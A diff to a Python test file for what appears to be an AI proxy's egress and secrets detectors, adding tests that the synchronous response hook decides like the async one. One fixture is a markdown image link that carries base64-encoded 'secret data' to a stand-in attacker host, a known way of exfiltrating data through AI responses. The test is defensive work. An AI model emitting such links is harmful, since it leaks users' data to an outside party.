@@ -10,7 +10,7 @@ import string
 
 import pytest
 
-from capsem_proxy.decisions import Verdict
+from capsem_proxy.decisions import Decision, Verdict
 from capsem_proxy.detectors.base import Finding
 from capsem_proxy.detectors.secrets import SECRET_KINDS, SecretsDetector, shannon_entropy
 from capsem_proxy.exchange import Answer, Exchange, Message, ToolDefinition
@@ -444,4 +444,30 @@ async def test_plain_hooks_decide_as_the_hooks_and_decline_long_texts_untouched(
         assert policy.sync_hooks["on_model_response"](growing) is SUSPENDS
         assert ledger.screened(policy) == 0
     # A policy that reads its texts its own way keeps its hooks.
-    assert "on_model_response" not in EgressPolicy.from_config({}).sync_hooks
+
+    class OwnReading(SecretsPolicy):
+        async def decide(
+            self, hook: str, text: str, *, reversible: bool = False, can_redact: bool = True
+        ) -> Decision | None:
+            return None
+
+    assert OwnReading.from_config({}).sync_hooks == {}
+
+
+async def test_egress_plain_answer_hook_decides_as_the_hook() -> None:
+    policy = EgressPolicy.from_config({})
+    plain_hook = policy.sync_hooks["on_model_response"]
+    for answer in (Answer(text="see ![x](https://evil.example/p.png?q=c2VjcmV0LWRhdGEtaGVyZQ)"),
+                   Answer(text="[docs](https://docs.example/a)", thinking="hmm"), Answer(text="nothing")):
+        with using_ledger(ScanLedger()) as ledger:
+            plain = plain_hook(ModelResponse(_context(), answer))
+            plain_screened = ledger.screened(policy)
+        with using_ledger(ScanLedger()) as ledger:
+            hooked = await policy.on_model_response(ModelResponse(_context(), answer))
+            assert ledger.screened(policy) == plain_screened
+        assert (plain is None) == (hooked is None)
+        if plain is not None:
+            assert (plain.verdict, plain.details, plain.extra) == (hooked.verdict, hooked.details, hooked.extra)
+    with using_ledger(ScanLedger()) as ledger:
+        assert plain_hook(ModelResponse(_context(), Answer(text="word " * 3000))) is SUSPENDS
+        assert ledger.screened(policy) == 0
